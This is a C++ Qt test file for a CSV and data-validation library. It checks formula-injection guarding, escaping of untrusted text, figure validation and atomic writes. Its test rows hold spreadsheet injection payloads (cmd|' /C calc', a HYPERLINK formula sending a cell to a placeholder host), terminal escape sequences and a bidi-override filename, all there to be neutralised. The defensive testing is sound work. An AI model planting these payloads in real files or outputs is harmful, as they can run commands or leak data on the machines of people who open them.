// Tests for model/core: RFC 4180 parsing and spreadsheet-safe writing, quoted-number and period
// parsing, figure rules, how untrusted text is shown and how files are written.
#include "core/atomic_write.h"
#include "core/csv.h"
#include "core/figure.h"
#include "core/untrusted_text.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QTest>

#include <cmath>
#include <string_view>

#include <sys/stat.h>

using namespace cliff;

class TestCore : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void csvParses_data();
    void csvParses();
    void csvRejects_data();
    void csvRejects();
    void csvRoundTrips();
    void textCellsAreSpreadsheetSafe_data();
    void textCellsAreSpreadsheetSafe();
    void numberColumnsStayNumbers_data();
    void numberColumnsStayNumbers();
    void commentLinesAreOneField_data();
    void commentLinesAreOneField();
    void plainIds_data();
    void plainIds();
    void quotedNumber_data();
    void quotedNumber();
    void period_data();
    void period();
    void figureRules_data();
    void figureRules();
    void untrustedTextIsQuoted_data();
    void untrustedTextIsQuoted();
    void controlsAreEscaped_data();
    void controlsAreEscaped();
    void errorsQuoteFieldsReadFromFiles_data();
    void errorsQuoteFieldsReadFromFiles();
    void atomicWriteReplacesTogether();
    void atomicWriteKeepsThePreviousFilesWhenARenameFails_data();
    void atomicWriteKeepsThePreviousFilesWhenARenameFails();
    void atomicWriteRefusesNonRegularTargets_data();
    void atomicWriteRefusesNonRegularTargets();
};

using Rows = QList<QStringList>;

static Rows toRows(const std::vector<csv::Record> &records)
{
    Rows rows;
    for (const csv::Record &record : records) {
        QStringList fields;
        for (const std::string &field : record.fields)
            fields << QString::fromStdString(field);
        rows << fields;
    }
    return rows;
}

void TestCore::csvParses_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<Rows>("rows");
    QTest::newRow("plain") << QByteArray("a,b\n1,2\n") << Rows{{"a", "b"}, {"1", "2"}};
    QTest::newRow("crlf") << QByteArray("a,b\r\n1,2\r\n") << Rows{{"a", "b"}, {"1", "2"}};
    QTest::newRow("no final newline") << QByteArray("a,b\n1,2") << Rows{{"a", "b"}, {"1", "2"}};
    QTest::newRow("bom") << QByteArray("\xEF\xBB\xBF" "a\nx\n") << Rows{{"a"}, {"x"}};
    QTest::newRow("quoted comma") << QByteArray("\"a,b\",c\n") << Rows{{"a,b", "c"}};
    QTest::newRow("doubled quote") << QByteArray("\"say \"\"hi\"\"\"\n") << Rows{{"say \"hi\""}};
    QTest::newRow("newline in quotes") << QByteArray("\"x\ny\",z\n") << Rows{{"x\ny", "z"}};
    QTest::newRow("empty fields") << QByteArray(",,\n") << Rows{{"", "", ""}};
    QTest::newRow("blank lines skipped") << QByteArray("a\n\n\nb\n") << Rows{{"a"}, {"b"}};
    QTest::newRow("utf8") << QByteArray("“$5.6M” — ok\n") << Rows{{"“$5.6M” — ok"}};
}

void TestCore::csvParses()
{
    QFETCH(QByteArray, text);
    QFETCH(Rows, rows);
    auto parsed = csv::parse(text.toStdString(), "t.csv");
    QVERIFY2(parsed.ok(), parsed.ok() ? "" : parsed.error().toString().c_str());
    QCOMPARE(toRows(parsed.value()), rows);
}

void TestCore::csvRejects_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<int>("line");
    QTest::addColumn<QString>("field"); // empty when the error names no column
    QTest::newRow("unterminated") << QByteArray("a\n\"open,b\n") << 2 << "";
    QTest::newRow("quote in field") << QByteArray("a\nx\"y\n") << 2 << "";
    QTest::newRow("text after quote") << QByteArray("\"a\"b\n") << 1 << "";
    QTest::newRow("bare CR") << QByteArray("a\rb\n") << 1 << "";
    QTest::newRow("NUL") << QByteArray("a\nb\0c\n", 6) << 2 << "column 1";
    QTest::newRow("NUL in quotes") << QByteArray("h1,h2\nx,\"b\0c\"\n", 14) << 2 << "column 2";
    QTest::newRow("NUL on a quoted field's second line")
        << QByteArray("h\n\"a\nb\0\"\n", 10) << 3 << "column 1";
    QTest::newRow("latin-1 byte") << QByteArray("a\nb\n\"caf\xE9\"\n") << 3 << "";
    QTest::newRow("overlong slash") << QByteArray("a\xC0\xAF\n") << 1 << "";
    QTest::newRow("surrogate") << QByteArray("x\n\xED\xA0\x80\n") << 2 << "";
    QTest::newRow("cut sequence") << QByteArray("x\ny\n\xE2\x80") << 3 << "";
}

void TestCore::csvRejects()
{
    QFETCH(QByteArray, text);
    QFETCH(int, line);
    QFETCH(QString, field);
    auto parsed = csv::parse(std::string(text.constData(), std::size_t(text.size())), "bad.csv");
    QVERIFY(!parsed.ok());
    QCOMPARE(parsed.error().file, std::string("bad.csv"));
    QCOMPARE(parsed.error().line, line);
    QCOMPARE(QString::fromStdString(parsed.error().field), field);
}

void TestCore::csvRoundTrips()
{
    const std::vector<std::string> fields = {"plain", "with,comma", "with \"quote\"", "two\nlines",
                                             "", "“unicode”"};
    auto parsed = csv::parse(csv::formatRecord(fields), "round.csv");
    QVERIFY(parsed.ok());
    QCOMPARE(parsed->size(), std::size_t(1));
    QVERIFY(parsed->front().fields == fields);
    QCOMPARE(csv::formatRecord({"a", "b"}), std::string("a,b\r\n"));
}

void TestCore::textCellsAreSpreadsheetSafe_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("cell"); // as written, before CSV escaping
    QTest::newRow("plain") << "Acme Inc." << "Acme Inc.";
    QTest::newRow("empty") << "" << "";
    QTest::newRow("equals") << "=HYPERLINK(\"http://x/?d=\"&A2,\"click\")"
                            << "'=HYPERLINK(\"http://x/?d=\"&A2,\"click\")";
    QTest::newRow("plus") << "+cmd|' /C calc'!A0" << "'+cmd|' /C calc'!A0";
    QTest::newRow("minus") << "-2+3+cmd|' /C calc'!A0" << "'-2+3+cmd|' /C calc'!A0";
    QTest::newRow("minus and space") << "- 40% reduction in training time"
                                     << "'- 40% reduction in training time";
    QTest::newRow("at") << "@SUM(1+1)*cmd|' /C calc'!A0" << "'@SUM(1+1)*cmd|' /C calc'!A0";
    QTest::newRow("tab") << "\t=1+1" << "'\t=1+1";
    QTest::newRow("carriage return") << "\r=1+1" << "'\r=1+1";
    QTest::newRow("formula later") << "a=1+1" << "a=1+1";
    QTest::newRow("space first") << " =1" << " =1";
    // A text that already begins with the guard keeps it, so that reading gives it back.
    QTest::newRow("guard already") << "'=1+1" << "''=1+1";
    QTest::newRow("two guards") << "''-x" << "'''-x";
    QTest::newRow("apostrophe text") << "'tis the season" << "'tis the season";
    QTest::newRow("lone apostrophe") << "'" << "'";
}

void TestCore::textCellsAreSpreadsheetSafe()
{
    QFETCH(QString, text);
    QFETCH(QString, cell);
    QCOMPARE(QString::fromStdString(csv::textCell(text.toStdString())), cell);
    QCOMPARE(QString::fromStdString(csv::textFromCell(cell.toStdString())), text);
    // Through a whole record and the parser: the cell a spreadsheet sees never starts a formula.
    auto parsed = csv::parse(csv::formatRecord({text.toStdString(), "x"}), "cell.csv");
    QVERIFY(parsed.ok());
    QCOMPARE(parsed->size(), std::size_t(1));
    const std::string &read = parsed->front().fields.front();
    QVERIFY(read.empty() || std::string_view("=+-@\t\r").find(read.front()) == std::string_view::npos);
    QCOMPARE(QString::fromStdString(csv::textFromCell(read)), text);
}

void TestCore::numberColumnsStayNumbers_data()
{
    QTest::addColumn<QStringList>("fields");
    QTest::addColumn<QList<int>>("numbers");
    QTest::addColumn<QByteArray>("record");
    QTest::newRow("negative number") << QStringList{"-2.5", "-2.5"} << QList<int>{0}
                                     << QByteArray("-2.5,'-2.5\r\n");
    QTest::newRow("exponent") << QStringList{"1.5e+12", "-1e-05"} << QList<int>{0, 1}
                              << QByteArray("1.5e+12,-1e-05\r\n");
    QTest::newRow("empty number") << QStringList{"", "a"} << QList<int>{0} << QByteArray(",a\r\n");
    QTest::newRow("formula in a number column") << QStringList{"-2+3", "=1"} << QList<int>{0, 1}
                                                << QByteArray("'-2+3,'=1\r\n");
    QTest::newRow("plus sign") << QStringList{"+5"} << QList<int>{0} << QByteArray("'+5\r\n");
    QTest::newRow("infinity") << QStringList{"-inf"} << QList<int>{0} << QByteArray("'-inf\r\n");
    QTest::newRow("quoted and guarded") << QStringList{"=A1,\"x\""} << QList<int>{}
                                        << QByteArray("\"'=A1,\"\"x\"\"\"\r\n");
}

void TestCore::numberColumnsStayNumbers()
{
    QFETCH(QStringList, fields);
    QFETCH(QList<int>, numbers);
    QFETCH(QByteArray, record);
    std::vector<std::string> row;
    for (const QString &field : fields)
        row.push_back(field.toStdString());
    std::vector<std::size_t> numberColumns;
    for (int column : numbers)
        numberColumns.push_back(std::size_t(column));
    QCOMPARE(QByteArray::fromStdString(csv::formatRecord(row, numberColumns)), record);
}

void TestCore::commentLinesAreOneField_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QByteArray>("line");
    QTest::newRow("plain") << "view: moat" << QByteArray("\"# view: moat\"\r\n");
    QTest::newRow("comma in a publisher") << "source: s1: Acme, Inc., “Title”, 2025"
                                          << QByteArray("\"# source: s1: Acme, Inc., “Title”, 2025\"\r\n");
    QTest::newRow("quotes") << "kind \"monte carlo\" rows"
                            << QByteArray("\"# kind \"\"monte carlo\"\" rows\"\r\n");
    QTest::newRow("line breaks") << "a\r\nb\nc" << QByteArray("\"# a  b c\"\r\n");
    QTest::newRow("formula") << "=1+1" << QByteArray("\"# =1+1\"\r\n");
}

void TestCore::commentLinesAreOneField()
{
    QFETCH(QString, text);
    QFETCH(QByteArray, line);
    const std::string written = csv::formatComment(text.toStdString());
    QCOMPARE(QByteArray::fromStdString(written), line);
    auto parsed = csv::parse(written + csv::formatRecord({"a", "b"}), "comment.csv");
    QVERIFY(parsed.ok());
    QCOMPARE(parsed->size(), std::size_t(2));
    QCOMPARE(parsed->front().fields.size(), std::size_t(1));
    QVERIFY(csv::isComment(parsed->front()));
    QVERIFY(!csv::isComment(parsed->back()));
}

void TestCore::plainIds_data()
{
    QTest::addColumn<QString>("id");
    QTest::addColumn<bool>("plain");
    QTest::newRow("shipped figure id") << "us-hyperscaler-capex-2026-whitepaper" << true;
    QTest::newRow("shipped source id") << "seed-compute-cliff" << true;
    QTest::newRow("every allowed character") << "Az09._:-x" << true;
    QTest::newRow("digit first") << "2025-capex" << true;
    QTest::newRow("one character") << "a" << true;
    QTest::newRow("empty") << "" << false;
    QTest::newRow("formula") << "=HYPERLINK(\"http://x\")" << false;
    QTest::newRow("minus first") << "-2+3" << false;
    QTest::newRow("at first") << "@SUM(A1)" << false;
    QTest::newRow("tab first") << "\tx" << false;
    QTest::newRow("dot first") << ".x" << false;
    QTest::newRow("space") << "my figure" << false;
    QTest::newRow("comma") << "a,b" << false;
    QTest::newRow("quote") << "a'b" << false;
    QTest::newRow("line break") << "a\nb" << false;
    QTest::newRow("non-ASCII") << "café" << false;
}

void TestCore::plainIds()
{
    QFETCH(QString, id);
    QFETCH(bool, plain);
    QCOMPARE(isPlainId(id.toStdString()), plain);
}

void TestCore::quotedNumber_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<double>("low");
    QTest::addColumn<double>("high");
    QTest::newRow("millions suffix") << "$5.576M" << 5.576e6 << 5.576e6;
    QTest::newRow("million word") << "$5.576 million" << 5.576e6 << 5.576e6;
    QTest::newRow("billion suffix") << "$589B" << 589e9 << 589e9;
    QTest::newRow("roughly billion") << "roughly $589 billion" << 589e9 << 589e9;
    QTest::newRow("range shared scale") << "$690–725 billion" << 690e9 << 725e9;
    QTest::newRow("range own scales") << "$500M–$1B" << 500e6 << 1e9;
    QTest::newRow("range hyphen x") << "5-10x" << 5.0 << 10.0;
    QTest::newRow("range to") << "3 to 9 months" << 3.0 << 9.0;
    QTest::newRow("percent") << "17%" << 17.0 << 17.0;
    QTest::newRow("thousands comma") << "2,048" << 2048.0 << 2048.0;
    QTest::newRow("decimal") << "$0.55" << 0.55 << 0.55;
    QTest::newRow("of") << "9 of 10" << 9.0 << 9.0;
    QTest::newRow("trillion word") << "14.8 trillion" << 14.8e12 << 14.8e12;
    QTest::newRow("half a trillion") << "half a trillion" << 0.5e12 << 0.5e12;
    QTest::newRow("a trillion") << "roughly a trillion dollars" << 1e12 << 1e12;
    QTest::newRow("a is not a number") << "a 17% drop" << 17.0 << 17.0;
    QTest::newRow("number word") << "nine" << 9.0 << 9.0;
    QTest::newRow("word range") << "twelve to eighteen months" << 12.0 << 18.0;
    QTest::newRow("tilde k") << "~50k" << 50e3 << 50e3;
    QTest::newRow("bn") << "$39.23bn" << 39.23e9 << 39.23e9;
    QTest::newRow("trillion plus") << "$1 trillion+" << 1e12 << 1e12;
    QTest::newRow("months not millions") << "18 months" << 18.0 << 18.0;
    QTest::newRow("year") << "1999" << 1999.0 << 1999.0;
    QTest::newRow("between and") << "between 450 and 880" << 450.0 << 880.0;
    QTest::newRow("between dollars") << "between $2 and $3 billion" << 2e9 << 3e9;
    QTest::newRow("and without between") << "5 and 6" << 5.0 << 5.0;
    // A table row in a table headed "(in thousands)": 310,555 thousand dollars.
    QTest::newRow("table in thousands") << "310,555 [in thousands]" << 310555e3 << 310555e3;
    QTest::newRow("table in millions") << "$35,551 [in millions]" << 35551e6 << 35551e6;
}

void TestCore::quotedNumber()
{
    QFETCH(QString, text);
    QFETCH(double, low);
    QFETCH(double, high);
    const auto parsed = parseQuotedNumber(text.toStdString());
    QVERIFY(parsed.has_value());
    QVERIFY2(std::abs(parsed->low - low) <= 1e-9 * std::abs(low),
             qPrintable(QString::number(parsed->low, 'g', 17)));
    QVERIFY2(std::abs(parsed->high - high) <= 1e-9 * std::abs(high),
             qPrintable(QString::number(parsed->high, 'g', 17)));
}

void TestCore::period_data()
{
    QTest::addColumn<QString>("period");
    QTest::addColumn<bool>("valid");
    QTest::addColumn<double>("start");
    QTest::addColumn<double>("end");
    QTest::newRow("year") << "2025" << true << 2025.0 << 2026.0;
    QTest::newRow("fiscal") << "FY2025" << true << 2025.0 << 2026.0;
    QTest::newRow("quarter") << "2025-Q3" << true << 2025.5 << 2025.75;
    QTest::newRow("month") << "2025-07" << true << 2025.5 << 2025 + 7 / 12.0;
    // 27 January is day 26 after 1 January in a 365-day year.
    QTest::newRow("day") << "2025-01-27" << true << 2025 + 26 / 365.0 << 2025 + 27 / 365.0;
    QTest::newRow("range") << "2025..2027" << true << 2025.0 << 2028.0;
    QTest::newRow("leap day") << "2024-02-29" << true << 2024 + 59 / 366.0 << 2024 + 59 / 366.0 + 1 / 365.0;
    QTest::newRow("no leap day") << "2025-02-29" << false << 0.0 << 0.0;
    QTest::newRow("month 13") << "2025-13" << false << 0.0 << 0.0;
    QTest::newRow("reversed range") << "2027..2025" << false << 0.0 << 0.0;
    QTest::newRow("words") << "late 2025" << false << 0.0 << 0.0;
    QTest::newRow("empty") << "" << false << 0.0 << 0.0;
}

void TestCore::period()
{
    QFETCH(QString, period);
    QFETCH(bool, valid);
    QFETCH(double, start);
    QFETCH(double, end);
    const auto span = parsePeriod(period.toStdString());
    QCOMPARE(span.has_value(), valid);
    if (valid) {
        QVERIFY(std::abs(span->startYear - start) < 1e-9);
        QVERIFY(std::abs(span->endYear - end) < 1e-9);
    }
}

static Figure goodFigure()
{
    Figure f;
    f.id = "v3-final-run";
    f.category = "training_cost";
    f.entity = "DeepSeek-V3";
    f.metric = "Training cost (final run)";
    f.value = 5.576e6;
    f.unit = "USD";
    f.period = "2024-12";
    f.kind = "reported";
    f.sourceId = "deepseek-v3-report";
    f.quoted = "$5.576M";
    f.quote = "the total training costs amount to only $5.576M";
    return f;
}

void TestCore::figureRules_data()
{
    QTest::addColumn<QString>("change");
    QTest::addColumn<QString>("field"); // empty: the figure is valid
    QTest::newRow("good") << "" << "";
    QTest::newRow("unknown category") << "category" << "category";
    QTest::newRow("unknown unit") << "unit" << "unit";
    QTest::newRow("unknown kind") << "kind" << "kind";
    QTest::newRow("bad period") << "period" << "period";
    QTest::newRow("quoted not in quote") << "quoted-missing" << "quoted";
    QTest::newRow("quoted disagrees") << "value" << "quoted";
    QTest::newRow("long quote") << "quote-long" << "quote";
    QTest::newRow("low without high") << "low-only" << "high";
    QTest::newRow("value outside range") << "range-outside" << "value";
    QTest::newRow("nan") << "nan" << "value";
    QTest::newRow("range matches") << "range-good" << "";
    QTest::newRow("id not plain") << "id" << "id";
    QTest::newRow("source id not plain") << "source_id" << "source_id";
    QTest::newRow("read-in id not plain") << "read_in" << "read_in";
    QTest::newRow("read-in id plain") << "read_in-good" << "";
    QTest::newRow("table row") << "table" << "";
    QTest::newRow("table row scaled twice") << "table-scaled-twice" << "quoted";
    QTest::newRow("table row not in quote") << "table-missing" << "quoted";
}

void TestCore::figureRules()
{
    QFETCH(QString, change);
    QFETCH(QString, field);
    Figure f = goodFigure();
    if (change == u"category") f.category = "capexx";
    if (change == u"unit") f.unit = "USD bn";
    if (change == u"kind") f.kind = "rumour";
    if (change == u"period") f.period = "Dec 2024";
    if (change == u"quoted-missing") f.quoted = "$5.58M";
    if (change == u"value") f.value = 5.58e6;
    if (change == u"quote-long") // 26 words
        f.quote = "$5.576M a b c d e f g h i j k l m n o p q r s t u v w x y";
    if (change == u"low-only") f.low = 1.0;
    if (change == u"range-outside") { f.low = 1.0; f.high = 2.0; }
    if (change == u"nan") f.value = std::nan("");
    if (change == u"id") f.id = "=HYPERLINK(\"http://x/\",\"v3\")";
    if (change == u"source_id") f.sourceId = "+cmd|' /C calc'!A0";
    if (change == u"read_in") f.readIn = "seed one";
    if (change == u"read_in-good") f.readIn = "seed-one";
    if (change == u"range-good") {
        f.quoted = "$500M–$1B"; f.quote = "a program cost of $500M–$1B"; f.value = 7.5e8;
        f.low = 5e8; f.high = 1e9; f.kind = "estimate";
    }
    if (change.startsWith(u"table")) { // a quarter's interest expense from a results table
        f.value = 310555e3;
        f.quoted = "310,555 [in thousands]";
        f.quote = "Interest expense, net $ (310,555 ) $ (104,375 )";
    }
    if (change == u"table-scaled-twice") {
        f.quoted = "$310.555M [in thousands]";
        f.quote = "Interest expense of $310.555M";
    }
    if (change == u"table-missing") f.quote = "Interest expense, net $ (310,556 )";
    const Status status = validateFigure(f);
    QCOMPARE(status.ok(), field.isEmpty());
    if (!status.ok())
        QCOMPARE(QString::fromStdString(status.error().field), field);
}

void TestCore::untrustedTextIsQuoted_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<int>("maxChars");
    QTest::addColumn<QByteArray>("shown");
    QTest::newRow("plain") << QByteArray("gossip") << 64 << QByteArray(R"("gossip")");
    QTest::newRow("empty") << QByteArray() << 64 << QByteArray(R"("")");
    QTest::newRow("quote and backslash") << QByteArray(R"(a"b\c)") << 64 << QByteArray(R"("a\"b\\c")");
    QTest::newRow("terminal title") << QByteArray("\x1b]0;owned\x07") << 64 << QByteArray(R"("\x1b]0;owned\x07")");
    QTest::newRow("clear screen") << QByteArray("\x1b[2J\x1b[H") << 64 << QByteArray(R"("\x1b[2J\x1b[H")");
    QTest::newRow("newline tab return") << QByteArray("a\nb\tc\rd") << 64 << QByteArray(R"("a\nb\tc\rd")");
    QTest::newRow("NUL and DEL") << QByteArray("a\0b\x7f", 4) << 64 << QByteArray(R"("a\x00b\x7f")");
    QTest::newRow("C1 CSI") << QByteArray("\xc2\x9b" "2J") << 64 << QByteArray(R"("\u009b2J")");
    QTest::newRow("bidi override") << QByteArray("abc\xe2\x80\xae" "fdp.exe") << 64 << QByteArray(R"("abc\u202efdp.exe")");
    QTest::newRow("line separator") << QByteArray("a\xe2\x80\xa8" "b") << 64 << QByteArray(R"("a\u2028b")");
    QTest::newRow("not UTF-8") << QByteArray("caf\xe9 \xff") << 64 << QByteArray(R"("caf\xe9 \xff")");
    QTest::newRow("cut-off sequence") << QByteArray("x\xe2\x80") << 64 << QByteArray(R"("x\xe2\x80")");
    QTest::newRow("UTF-8 kept") << QByteArray("“$5.6M” — ok") << 64 << QByteArray("\"“$5.6M” — ok\"");
    QTest::newRow("exactly the limit") << QByteArray("abcd") << 4 << QByteArray(R"("abcd")");
    QTest::newRow("one over") << QByteArray("abcde") << 4 << QByteArray("\"abcd…\" (5 bytes)");
    QTest::newRow("cut between characters") << QByteArray("ééééé") << 2 << QByteArray("\"éé…\" (10 bytes)");
    QTest::newRow("50 MB") << QByteArray(52428800, 'a') << 3 << QByteArray("\"aaa…\" (52,428,800 bytes)");
}

void TestCore::untrustedTextIsQuoted()
{
    QFETCH(QByteArray, text);
    QFETCH(int, maxChars);
    QFETCH(QByteArray, shown);
    const std::string quoted = quoteUntrusted(std::string_view(text.constData(), std::size_t(text.size())),
                                              std::size_t(maxChars));
    QCOMPARE(QByteArray::fromStdString(quoted), shown);
}

void TestCore::controlsAreEscaped_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QByteArray>("shown");
    QTest::newRow("plain") << QByteArray(R"(a "b" \c)") << QByteArray(R"(a "b" \c)");
    QTest::newRow("escape codes") << QByteArray("x\x1b[2Jy\n") << QByteArray(R"(x\x1b[2Jy\n)");
    QTest::newRow("not UTF-8") << QByteArray("\xc0\xaf") << QByteArray(R"(\xc0\xaf)");
    QTest::newRow("long text kept whole") << QByteArray(1000, 'z') << QByteArray(1000, 'z');
}

void TestCore::controlsAreEscaped()
{
    QFETCH(QByteArray, text);
    QFETCH(QByteArray, shown);
    QCOMPARE(QByteArray::fromStdString(escapeControls(text.toStdString())), shown);
}

void TestCore::errorsQuoteFieldsReadFromFiles_data()
{
    QTest::addColumn<QByteArray>("file");
    QTest::addColumn<QByteArray>("field");
    QTest::addColumn<QByteArray>("shown");
    QTest::newRow("column name") << QByteArray("f.csv") << QByteArray("unit") << QByteArray("f.csv:3: unit: bad");
    QTest::newRow("numbered column") << QByteArray("f.csv") << QByteArray("column 2") << QByteArray("f.csv:3: column 2: bad");
    QTest::newRow("escape codes") << QByteArray("f.csv") << QByteArray("\x1b[2J") << QByteArray(R"(f.csv:3: "\x1b[2J": bad)");
    QTest::newRow("long field") << QByteArray("f.csv") << QByteArray(100, 'h')
                                << "f.csv:3: \"" + QByteArray(64, 'h') + "…\" (100 bytes): bad";
    QTest::newRow("padded field") << QByteArray("f.csv") << QByteArray(" id") << QByteArray(R"(f.csv:3: " id": bad)");
    QTest::newRow("file with escapes") << QByteArray("a\x1b[2J.csv") << QByteArray("unit") << QByteArray(R"(a\x1b[2J.csv:3: unit: bad)");
}

void TestCore::errorsQuoteFieldsReadFromFiles()
{
    QFETCH(QByteArray, file);
    QFETCH(QByteArray, field);
    QFETCH(QByteArray, shown);
    const Error error{"bad", file.toStdString(), 3, field.toStdString()};
    QCOMPARE(QByteArray::fromStdString(error.toString()), shown);
}

static QByteArray fileBytes(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("(missing)");
}

static void putBytes(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    QCOMPARE(file.write(bytes), bytes.size());
}

static QStringList entries(const QString &folder)
{
    return QDir(folder).entryList(QDir::AllEntries | QDir::System | QDir::Hidden | QDir::NoDotAndDotDot, QDir::Name);
}

void TestCore::atomicWriteReplacesTogether()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString chart = dir.filePath(QStringLiteral("chart.png"));
    const QString alt = chart + QStringLiteral(".alt.txt");
    {
        AtomicWrite write;
        QVERIFY(write.stage(chart.toStdString(), "new chart").ok());
        QVERIFY(write.stage(alt.toStdString(), "new alt").ok());
        // Nothing takes its real name before the commit.
        QVERIFY(!QFileInfo::exists(chart) && !QFileInfo::exists(alt));
        QVERIFY(write.commit().ok());
    }
    QCOMPARE(fileBytes(chart), QByteArray("new chart"));
    QCOMPARE(fileBytes(alt), QByteArray("new alt"));
    QCOMPARE(entries(dir.path()), (QStringList{"chart.png", "chart.png.alt.txt"}));

    // A replaced file keeps its permissions; a write never committed leaves nothing.
    QCOMPARE(::chmod(QFile::encodeName(chart).constData(), 0640), 0);
    QVERIFY(writeFileAtomically(chart.toStdString(), "newer").ok());
    QCOMPARE(fileBytes(chart), QByteArray("newer"));
    struct stat status {};
    QCOMPARE(::stat(QFile::encodeName(chart).constData(), &status), 0);
    QCOMPARE(status.st_mode & 07777u, 0640u);
    {
        AtomicWrite abandoned;
        QVERIFY(abandoned.stage(chart.toStdString(), "never").ok());
    }
    QCOMPARE(fileBytes(chart), QByteArray("newer"));
    QCOMPARE(entries(dir.path()), (QStringList{"chart.png", "chart.png.alt.txt"}));

    // A folder that does not exist is named in the error, and nothing is written.
    const Status missing = writeFileAtomically(dir.filePath(QStringLiteral("no/such.png")).toStdString(), "x");
    QVERIFY(!missing.ok());
    QCOMPARE(QString::fromStdString(missing.error().file), dir.filePath(QStringLiteral("no/such.png")));
}

void TestCore::atomicWriteKeepsThePreviousFilesWhenARenameFails_data()
{
    QTest::addColumn<bool>("hadChart"); // whether a previous chart was there to keep
    QTest::newRow("previous chart kept") << true;
    QTest::newRow("no chart left") << false;
}

void TestCore::atomicWriteKeepsThePreviousFilesWhenARenameFails()
{
    QFETCH(bool, hadChart);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString chart = dir.filePath(QStringLiteral("chart.png"));
    const QString alt = chart + QStringLiteral(".alt.txt");
    if (hadChart)
        putBytes(chart, "old chart");
    AtomicWrite write;
    QVERIFY(write.stage(chart.toStdString(), "new chart").ok());
    QVERIFY(write.stage(alt.toStdString(), "new alt").ok());
    // The alt text's rename will fail: a folder with a file in it now stands at its name.
    QVERIFY(QDir(dir.path()).mkdir(QStringLiteral("chart.png.alt.txt")));
    putBytes(alt + QStringLiteral("/inside"), "x");
    const Status committed = write.commit();
    QVERIFY(!committed.ok());
    QCOMPARE(QString::fromStdString(committed.error().file), alt);
    QCOMPARE(fileBytes(chart), hadChart ? QByteArray("old chart") : QByteArray("(missing)"));
    QVERIFY(QFileInfo(alt).isDir());
    const QStringList left = hadChart ? QStringList{"chart.png", "chart.png.alt.txt"}
                                      : QStringList{"chart.png.alt.txt"};
    QCOMPARE(entries(dir.path()), left);
}

void TestCore::atomicWriteRefusesNonRegularTargets_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QByteArray>("mentions");
    QTest::newRow("fifo") << "fifo" << QByteArray("(a FIFO)");
    QTest::newRow("symlink to a fifo") << "link" << QByteArray("(a FIFO)");
    QTest::newRow("folder") << "folder" << QByteArray("(a folder)");
    QTest::newRow("symlink to a file") << "file link" << QByteArray();
}

void TestCore::atomicWriteRefusesNonRegularTargets()
{
    QFETCH(QString, kind);
    QFETCH(QByteArray, mentions);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString target = dir.filePath(QStringLiteral("out"));
    const QString other = dir.filePath(QStringLiteral("other"));
    if (kind == u"fifo")
        QCOMPARE(::mkfifo(QFile::encodeName(target).constData(), 0600), 0);
    if (kind == u"link")
        QCOMPARE(::mkfifo(QFile::encodeName(other).constData(), 0600), 0);
    if (kind == u"file link")
        putBytes(other, "old");
    if (kind.contains(u"link"))
        QVERIFY(QFile::link(other, target));
    if (kind == u"folder")
        QVERIFY(QDir(dir.path()).mkdir(QStringLiteral("out")));
    const QStringList before = entries(dir.path());

    const Status written = writeFileAtomically(target.toStdString(), "new");
    QCOMPARE(entries(dir.path()), before);
    if (mentions.isEmpty()) {
        // A symlink to a regular file is written through and stays a symlink.
        QVERIFY(written.ok());
        QVERIFY(QFileInfo(target).isSymLink());
        QCOMPARE(fileBytes(other), QByteArray("new"));
        return;
    }
    QVERIFY(!written.ok());
    const QByteArray message = QByteArray::fromStdString(written.error().toString());
    QVERIFY2(message.startsWith(target.toUtf8() + ": not a regular file ") && message.contains(mentions),
             message.constData());
    QVERIFY(!QFileInfo(kind == u"link" ? other : target).isFile());
}

QTEST_APPLESS_MAIN(TestCore)
#include "test_core.moc"
